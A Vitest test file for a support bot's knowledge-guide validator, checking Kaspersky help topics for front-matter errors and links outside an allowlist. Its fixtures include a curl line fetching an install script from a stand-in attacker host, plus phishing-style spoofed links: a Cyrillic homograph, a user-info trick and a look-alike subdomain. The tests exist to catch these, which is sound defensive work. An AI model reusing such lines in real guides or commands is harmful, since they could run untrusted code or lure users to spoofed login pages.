import { mkdtemp, mkdir, readFile, rm, writeFile } from 'node:fs/promises';
import { existsSync, readdirSync, readFileSync, statSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { describe, expect, it } from 'vitest';
import { buildKnowledge } from '../../src/core/knowledge/knowledge.js';
import { formatKnowledgeError, type LoadResult } from '../../src/core/knowledge/knowledge-source.js';
import { loadKnowledge } from '../../src/app/knowledge-folder.js';

const ALLOWED = 'my.kaspersky.com\nsupport.kaspersky.com\n';
const STEPS = 'Intro sentence.\n\n1. Do the first thing.\n2. Do the second thing.\n';

/** A valid topic file; `extra` is added to the front matter after id and title (lines 2 and 3). */
function topic(id: string, extra = '', body = STEPS): string {
  return `---\nid: ${id}\ntitle: Title of ${id}\n${extra}---\n${body}`;
}

/** Build a guide in memory and return its problems as kb:check prints them. */
function problems(files: Record<string, string>, allowedHostsText: string | null = ALLOWED): string[] {
  const result = buildKnowledge({
    files: Object.entries(files).map(([name, text]) => ({ name, text })),
    allowedHostsText,
  });
  return result.ok ? [] : result.errors.map(formatKnowledgeError);
}

describe("buildKnowledge: http to an allowlisted address on the member's own machine or network", () => {
  // Self-hosted software is opened at such addresses, which no certificate can name and no site on the internet can
  // stand behind; the admin still has to list each host.
  it.each([
    ['localhost with a port', 'http://localhost:8384', 'localhost'],
    ['a loopback address', 'http://127.0.0.1:2283/admin', '127.0.0.1'],
    ['a home-network address', 'http://192.168.1.20/', '192.168.1.20'],
    ['a multicast-DNS name', 'http://homeassistant.local:8123/', 'homeassistant.local'],
  ])('accepts %s (%s) once its host is listed', (_what, url, host) => {
    const files = { 'a.md': topic('a', '', `Intro.\n\n1. Open ${url} in your browser.\n`) };
    expect(problems(files, `${ALLOWED}${host}\n`)).toEqual([]);
    expect(problems(files)).toEqual([
      `a.md:7: link "${url}" is not https and its host "${host}" is not on the allowlist`,
    ]);
  });
});

describe('buildKnowledge: broken guides give one exact FILE:LINE message each', () => {
  const cases: Array<{ tried: string; files: Record<string, string>; hosts?: string | null; expected: string[] }> = [
    {
      tried: 'a file with no --- front matter',
      files: { 'a.md': 'Just text.\n\n1. A step.\n' },
      expected: ['a.md:1: missing front matter: the file must start with a --- block'],
    },
    {
      tried: 'front matter opened with --- but never closed',
      files: { 'a.md': '---\nid: a\ntitle: Good title\n\n1. A step.\n' },
      expected: ['a.md:1: missing front matter: the file must start with a --- block'],
    },
    {
      tried: 'invalid YAML (unclosed [) on file line 3',
      files: { 'a.md': '---\nid: a\ntitle: [unclosed\n---\n1. A step.\n' },
      expected: [
        'a.md:3: front matter is not valid YAML: Flow sequence in block collection must be sufficiently indented and end with a ]',
      ],
    },
    {
      tried: 'a key indented wrongly on file line 6',
      files: { 'a.md': '---\nid: a\ntitle: Good title\naliases:\n  - one\n bad: indent\n---\n1. A step.\n' },
      expected: ['a.md:6: front matter is not valid YAML: All mapping items must start at the same column'],
    },
    {
      tried: 'the id key written twice (second on line 4)',
      files: { 'a.md': '---\nid: a\ntitle: Good title\nid: b\n---\n1. A step.\n' },
      expected: ['a.md:4: front matter is not valid YAML: Map keys must be unique'],
    },
    {
      tried: 'the typo "alias:" instead of "aliases:" on line 4',
      files: { 'a.md': topic('a', 'alias:\n  - forgot pw\n') },
      expected: [
        'a.md:4: front matter has an unknown key "alias" (allowed: id, title, section, order, command, summary, aliases, related)',
      ],
    },
    {
      tried: 'an id with capitals and an underscore',
      files: { 'a.md': '---\nid: Reset_Password\ntitle: Good title\n---\n1. A step.\n' },
      expected: ['a.md:2: front matter "id": id must be lowercase words joined by dashes, e.g. reset-password'],
    },
    {
      tried: 'no id at all',
      files: { 'a.md': '---\ntitle: Good title\n---\n1. A step.\n' },
      expected: ['a.md:2: front matter "id": Invalid input: expected string, received undefined'],
    },
    {
      tried: 'a two-letter title on line 4',
      files: { 'a.md': '---\nid: a\nsection: Signing in\ntitle: ab\n---\n1. A step.\n' },
      expected: ['a.md:4: front matter "title": Too small: expected string to have >=3 characters'],
    },
    {
      tried: 'an empty front matter block (--- straight after ---)',
      files: { 'a.md': '---\n---\n1. A step.\n' },
      expected: [
        'a.md:2: front matter "id": Invalid input: expected string, received undefined',
        'a.md:2: front matter "title": Invalid input: expected string, received undefined',
      ],
    },
    {
      tried: 'an empty alias on line 6 of a block list',
      files: { 'a.md': topic('a', 'aliases:\n  - fine\n  - ""\n') },
      expected: ['a.md:6: front matter "aliases.1": Too small: expected string to have >=1 characters'],
    },
    {
      tried: 'two files with the same id',
      files: { 'a.md': topic('same'), 'b.md': topic('same') },
      expected: ['b.md:2: duplicate id "same" (also in a.md)'],
    },
    {
      tried: 'two topics with the same slash command',
      files: { 'a.md': topic('a', 'command: go\n'), 'b.md': topic('b', 'command: go\n') },
      expected: ['b.md:4: duplicate command "go" (also in a.md)'],
    },
    {
      tried: '96 topics that each declare a command: Discord registers 100 per server, 5 of them the bot’s own',
      files: Object.fromEntries(
        Array.from({ length: 96 }, (_, n) => [
          `t${String(n + 1).padStart(2, '0')}.md`,
          topic(`t${n + 1}`, `command: c${n + 1}\n`),
        ]),
      ),
      expected: [
        "t96.md:4: 96 topics declare a command, and Discord registers 100 per server, 5 of them Stepwise's own: " +
          'remove `command:` from 1 topic(s), e.g. t96.md (members still reach them through /ask)',
      ],
    },
    {
      tried: "a topic whose command is one of the bot's own (stats, ticket)",
      files: { 'a.md': topic('a', 'command: stats\n'), 'b.md': topic('b', 'command: ticket\n') },
      expected: [
        'a.md:4: command "stats" is one of Stepwise\'s own (/ask, /topics, /ticket, /tickets, /stats): choose another name',
        'b.md:4: command "ticket" is one of Stepwise\'s own (/ask, /topics, /ticket, /tickets, /stats): choose another name',
      ],
    },
    {
      tried: 'a https link to a host not on the allowlist',
      files: { 'a.md': topic('a', '', 'Intro.\n\n1. Open https://evil.example.com/login now.\n') },
      expected: ['a.md:7: link host "evil.example.com" is not on the allowlist (https://evil.example.com/login)'],
    },
    {
      tried:
        'a code block whose command fetches from a https host not on the allowlist, beside a config line naming a host and a setting key (not links in code)',
      files: {
        'a.md': topic(
          'a',
          '',
          'Intro.\n\n1. Run:\n   ```sh\n   server_name files.example.org;\n   traefik.ingress.kubernetes.io/router.entrypoints: websecure\n   curl -sO https://evil.example.com/install.sh\n   ```\n2. Check `ldap://directory.example.org` answers.\n',
        ),
      },
      expected: ['a.md:11: link host "evil.example.com" is not on the allowlist (https://evil.example.com/install.sh)'],
    },
    {
      tried: 'a http link to a host not on the allowlist',
      files: { 'a.md': topic('a', '', 'Intro.\n\n1. Open http://evil.example.com/login.\n') },
      expected: [
        'a.md:7: link "http://evil.example.com/login" is not https and its host "evil.example.com" is not on the allowlist',
      ],
    },
    {
      tried: 'a bare host name with no scheme',
      files: { 'a.md': topic('a', '', 'Intro.\n\n1. Go to login-help.com/start to sign in.\n') },
      expected: ['a.md:7: host "login-help.com" is not on the allowlist (login-help.com/start)'],
    },
    {
      tried: 'a bare host name under a country code (login-help.co.uk)',
      files: { 'a.md': topic('a', '', 'Intro.\n\n1. Go to login-help.co.uk/start to sign in.\n') },
      expected: ['a.md:7: host "login-help.co.uk" is not on the allowlist (login-help.co.uk/start)'],
    },
    {
      tried: 'a http (not https) link to an allowed host',
      files: { 'a.md': topic('a', '', 'Intro.\n\n1. Open http://my.kaspersky.com/ and sign in.\n') },
      expected: ['a.md:7: link "http://my.kaspersky.com/" must start with https://'],
    },
    {
      tried: "a http address on the member's own machine (localhost) that the allowlist does not name",
      files: { 'a.md': topic('a', '', 'Intro.\n\n1. Open http://localhost:8384 in your browser.\n') },
      expected: ['a.md:7: link "http://localhost:8384" is not https and its host "localhost" is not on the allowlist'],
    },
    {
      tried: 'a http address whose name only starts like a home-network one (192.168.1.10.example.net), allowlisted',
      files: { 'a.md': topic('a', '', 'Intro.\n\n1. Open http://192.168.1.10.example.net/ in your browser.\n') },
      hosts: '192.168.1.10.example.net\n',
      expected: ['a.md:7: link "http://192.168.1.10.example.net/" must start with https://'],
    },
    {
      tried: 'a subdomain of an allowed host (subdomains are not implied)',
      files: { 'a.md': topic('a', '', 'Intro.\n\n1. Open https://login.my.kaspersky.com/.\n') },
      expected: [
        'a.md:7: link host "login.my.kaspersky.com" is not on the allowlist (https://login.my.kaspersky.com/)',
      ],
    },
    {
      tried: 'an allowed host used as user-info in front of another host',
      files: { 'a.md': topic('a', '', 'Intro.\n\n1. Open https://my.kaspersky.com@evil.example.com/.\n') },
      expected: [
        'a.md:7: link host "evil.example.com" is not on the allowlist (https://my.kaspersky.com@evil.example.com/)',
      ],
    },
    {
      tried: 'a look-alike host with a Cyrillic letter (homograph of my.kaspersky.com)',
      files: { 'a.md': topic('a', '', 'Intro.\n\n1. Open https://my.kasp\u0435rsky.com/login.\n') },
      expected: [
        'a.md:7: link host "my.xn--kasprsky-f8g.com" is not on the allowlist (https://my.kasp\u0435rsky.com/login)',
      ],
    },
    {
      tried: 'an allowed host used as the first labels of another host',
      files: { 'a.md': topic('a', '', 'Intro.\n\n1. Open https://my.kaspersky.com.evil.io/.\n') },
      expected: [
        'a.md:7: link host "my.kaspersky.com.evil.io" is not on the allowlist (https://my.kaspersky.com.evil.io/)',
      ],
    },
    {
      tried: 'an unlisted link hidden in the front matter summary',
      files: { 'a.md': topic('a', 'summary: See https://evil.example.com for help.\n') },
      expected: ['a.md:4: link host "evil.example.com" is not on the allowlist (https://evil.example.com)'],
    },
    {
      tried: 'a related id that no topic has (line 4)',
      files: { 'a.md': topic('a', 'related: [b, nope]\n'), 'b.md': topic('b') },
      expected: ['a.md:4: related topic "nope" does not exist'],
    },
    {
      tried: 'a topic related to itself in a block list (line 6)',
      files: { 'a.md': topic('a', 'related:\n  - b\n  - a\n'), 'b.md': topic('b') },
      expected: ['a.md:6: a topic cannot be related to itself'],
    },
    {
      tried: 'a body with no numbered steps, only bullets',
      files: { 'a.md': topic('a', '', 'Some advice.\n\n- a bullet\n- another\n') },
      expected: ['a.md:5: the body has no numbered steps ("1. ...")'],
    },
    {
      tried: 'a completely empty body',
      files: { 'a.md': '---\nid: a\ntitle: Good title\n---\n' },
      expected: ['a.md:5: the body has no numbered steps ("1. ...")'],
    },
    {
      tried: 'a step with a number but no text on line 8',
      files: { 'a.md': topic('a', '', 'Intro.\n\n1. One.\n2.\n3. Three.\n') },
      expected: ['a.md:8: empty step'],
    },
    {
      tried: 'Windows line endings with an unknown key and a bad link',
      files: {
        'a.md':
          '---\r\nid: a\r\ntitle: Good title\r\nalias: x\r\n---\r\nIntro\r\n\r\n1. See http://bad.example.com\r\n',
      },
      expected: [
        'a.md:4: front matter has an unknown key "alias" (allowed: id, title, section, order, command, summary, aliases, related)',
        'a.md:8: link "http://bad.example.com" is not https and its host "bad.example.com" is not on the allowlist',
      ],
    },
    {
      tried: 'no allowed-hosts.txt at all',
      files: { 'a.md': topic('a') },
      hosts: null,
      expected: ['allowed-hosts.txt: missing: list the hosts links may point to, one per line (it may be empty)'],
    },
    {
      tried: 'no topic files',
      files: {},
      expected: ['.: no topic files (*.md) found'],
    },
  ];

  for (const c of cases) {
    it(`reports ${c.tried}`, () => {
      expect(problems(c.files, c.hosts === undefined ? ALLOWED : c.hosts)).toEqual(c.expected);
    });
  }

  it('reports every problem of every file in one run, grouped by file and in line order', () => {
    const found = problems({
      'a.md': topic('a', 'alias: x\n'),
      'b.md': topic('b', 'related: [ghost]\n', 'Intro.\n\n1. Visit https://evil.example.com\n'),
      'c.md': 'no front matter',
    });
    expect(found.map((l) => l.split(': ')[0])).toEqual(['a.md:4', 'b.md:4', 'b.md:8', 'c.md:1']);
  });

  it('accepts a link to an allowed host over https, with the allowlist comments and case ignored', () => {
    const result = buildKnowledge({
      files: [{ name: 'a.md', text: topic('a', '', 'Intro.\n\n1. Open https://My.Kaspersky.com/ and sign in.\n') }],
      allowedHostsText: '# official\nMY.KASPERSKY.COM  # portal\n\n',
    });
    expect(result.ok).toBe(true);
  });

  it('keeps intro, steps (with indented sub-lines) and notes of a valid topic apart', () => {
    const result = buildKnowledge({
      files: [
        {
          name: 'a.md',
          text: topic('a', 'related: []\n', 'Intro line.\n\n1. First.\n   - sub point\n2) Second.\n\nA closing tip.\n'),
        },
      ],
      allowedHostsText: '',
    });
    expect(result.ok).toBe(true);
    const t = (result as Extract<LoadResult, { ok: true }>).knowledge.byId.get('a')!;
    expect(t.intro).toBe('Intro line.');
    expect(t.steps).toEqual(['First.\n- sub point', 'Second.']);
    expect(t.notes).toBe('A closing tip.');
    expect(t.section).toBe('General');
    expect(t.summary).toBe('Intro line.');
  });
});

describe('loadKnowledge on disk', () => {
  it('reports a broken topic file in a temp folder with its file name and line, skipping README.md', async () => {
    const dir = await mkdtemp(join(tmpdir(), 'stepwise-kb-'));
    try {
      await writeFile(join(dir, 'allowed-hosts.txt'), ALLOWED);
      await writeFile(join(dir, 'README.md'), '# Not a topic, has no front matter\n');
      await writeFile(join(dir, 'good.md'), topic('good'));
      await writeFile(join(dir, 'bad.md'), '---\nid: bad\ntitle: Bad topic\nalias: x\n---\n1. Step.\n');
      const result = await loadKnowledge(dir);
      expect(result.ok).toBe(false);
      if (!result.ok) {
        expect(result.errors.map(formatKnowledgeError)).toEqual([
          'bad.md:4: front matter has an unknown key "alias" (allowed: id, title, section, order, command, summary, aliases, related)',
        ]);
      }
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
  });

  it('reports a folder that does not exist as one clear error', async () => {
    const result = await loadKnowledge(join(tmpdir(), 'stepwise-no-such-folder-for-tests'));
    expect(result.ok).toBe(false);
    if (!result.ok)
      expect(result.errors.map((e) => e.message)).toEqual(['cannot read the knowledge folder: folder not found']);
  });

  it('reports a missing allowed-hosts.txt in a folder that has topics', async () => {
    const dir = await mkdtemp(join(tmpdir(), 'stepwise-kb-'));
    try {
      await mkdir(join(dir, 'sub'));
      await writeFile(join(dir, 'a.md'), topic('a'));
      const result = await loadKnowledge(dir);
      expect(result.ok ? [] : result.errors.map(formatKnowledgeError)).toEqual([
        'allowed-hosts.txt: missing: list the hosts links may point to, one per line (it may be empty)',
      ]);
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
  });
});

describe('the real guide in knowledge/', () => {
  const REQUIRED = [
    'account-benefits',
    'create-account',
    'login-requirements',
    'sign-in-options',
    'log-in',
    'reset-password',
    'wrong-credentials',
    'account-locked',
    'browser-app-issues',
    'verification-code',
    'two-factor',
    'credential-safety',
    'phishing-links',
    'password-rotation',
    'keep-updated',
    'public-wifi',
    'contact-support',
  ];

  it('loads without problems with exactly the 17 required topic ids, each in <id>.md', async () => {
    const result = await loadKnowledge('knowledge');
    if (!result.ok) throw new Error(result.errors.map(formatKnowledgeError).join('\n'));
    const { topics } = result.knowledge;
    expect(topics).toHaveLength(17);
    expect(topics.map((t) => t.id).sort()).toEqual([...REQUIRED].sort());
    for (const t of topics) {
      expect(t.file).toBe(`${t.id}.md`);
      expect(t.steps.length).toBeGreaterThanOrEqual(2);
      for (const r of t.related) expect(result.knowledge.byId.has(r)).toBe(true);
    }
  });

  it('examples.jsonl shares no question with the files answer quality is measured on', async () => {
    const result = await loadKnowledge('knowledge');
    if (!result.ok) throw new Error('knowledge/ does not load');
    const key = (q: string) =>
      q
        .toLowerCase()
        .replace(/[^\p{L}\p{N} ]/gu, '')
        .replace(/\s+/g, ' ')
        .trim();
    const taught = new Set(result.knowledge.examples.map((e) => key(e.question)));
    const measured = readdirSync('test/data/eval')
      .filter((n) => n.endsWith('.jsonl'))
      .map((n) => join('test/data/eval', n));
    const dev = resolve('..', 'shared', 'eval', 'questions.dev.jsonl');
    if (existsSync(dev)) measured.push(dev);
    const shared = measured.flatMap((f) =>
      readFileSync(f, 'utf8')
        .split('\n')
        .filter((l) => l.trim())
        .map((l) => (JSON.parse(l) as { q: string }).q)
        .filter((q) => taught.has(key(q))),
    );
    expect(taught.size).toBeGreaterThan(1000);
    expect(shared).toEqual([]);
  });

  const seedDir = resolve('..', 'shared', 'seed');
  const seedHost = (): string | null => {
    for (const f of readdirSync(seedDir).filter((n) => n.endsWith('.txt'))) {
      const m = /:target:\s*(\S+)/.exec(readFileSync(join(seedDir, f), 'utf8'));
      if (m?.[1]) return new URL(m[1]).hostname.toLowerCase();
    }
    return null;
  };

  it.skipIf(!existsSync(seedDir))(
    'never mentions the unofficial login host the seed article links to, in knowledge/ or src/',
    async () => {
      const host = seedHost();
      expect(host).toMatch(/\./);
      const offenders: string[] = [];
      const walk = (dir: string) => {
        for (const name of readdirSync(dir)) {
          const p = join(dir, name);
          if (statSync(p).isDirectory()) walk(p);
          else if (readFileSync(p, 'utf8').toLowerCase().includes(host!)) offenders.push(p);
        }
      };
      walk('knowledge');
      walk('src');
      expect(offenders).toEqual([]);
      // And the allowlist would refuse it if an admin pasted it in.
      expect(problems({ 'a.md': topic('a', '', `Intro.\n\n1. Sign in at https://${host}/login.\n`) })).toEqual([
        `a.md:7: link host "${host}" is not on the allowlist (https://${host}/login)`,
      ]);
      const allowlist = (await readFile('knowledge/allowed-hosts.txt', 'utf8')).toLowerCase();
      expect(allowlist).not.toContain(host);
    },
  );
});

describe('examples.jsonl: labelled questions are checked line by line', () => {
  const guide = { 'a.md': topic('a'), 'b.md': topic('b') };
  const examplesProblems = (examplesText: string): string[] => {
    const result = buildKnowledge({
      files: Object.entries(guide).map(([name, text]) => ({ name, text })),
      allowedHostsText: ALLOWED,
      examplesText,
    });
    return result.ok ? [] : result.errors.map(formatKnowledgeError);
  };
  it.each([
    [
      'a line that is not JSON',
      '{"q": "ok", "expect": ["a"]}\n{q: broken\n',
      ['examples.jsonl:2: not valid JSON: write {"q": "the question", "expect": ["topic-id"]} or "expect": "escalate"'],
    ],
    [
      'a topic id that does not exist',
      '{"q": "where is it", "expect": ["nope"]}\n',
      ['examples.jsonl:1: topic "nope" does not exist'],
    ],
    [
      'an empty question',
      '{"q": "  ", "expect": "escalate"}\n',
      ['examples.jsonl:1: "q": Too small: expected string to have >=1 characters'],
    ],
    [
      'an expect that is neither ids, "escalate" nor "ignore"',
      '{"q": "hmm", "expect": "answer"}\n',
      ['examples.jsonl:1: "expect": Invalid input'],
    ],
    [
      'the same question twice, spelled with other case and spaces',
      '{"q": "Forgot  it", "expect": ["a"]}\n\n{"q": "forgot it", "expect": ["b"]}\n',
      ['examples.jsonl:3: the same question is already on line 1'],
    ],
  ])('%s', (_tried, text, expected) => {
    expect(examplesProblems(text)).toEqual(expected);
  });

  it('a guide without examples.jsonl loads, with no examples', () => {
    const result = buildKnowledge({
      files: Object.entries(guide).map(([name, text]) => ({ name, text })),
      allowedHostsText: ALLOWED,
    });
    expect(result.ok && result.knowledge.examples).toEqual([]);
  });

  it('valid lines become examples: a topic, not covered, or small talk', () => {
    const text =
      '{"q": "q1", "expect": ["b", "a"], "cat": "in"}\n{"q": "q2", "expect": "escalate"}\n{"q": "q3", "expect": "ignore"}\n';
    const result = buildKnowledge({
      files: Object.entries(guide).map(([name, text]) => ({ name, text })),
      allowedHostsText: ALLOWED,
      examplesText: text,
    });
    expect(result.ok && result.knowledge.examples).toEqual([
      { question: 'q1', outcome: 'topic', topic: 'b' },
      { question: 'q2', outcome: 'escalate', topic: null },
      { question: 'q3', outcome: 'ignore', topic: null },
    ]);
  });
});
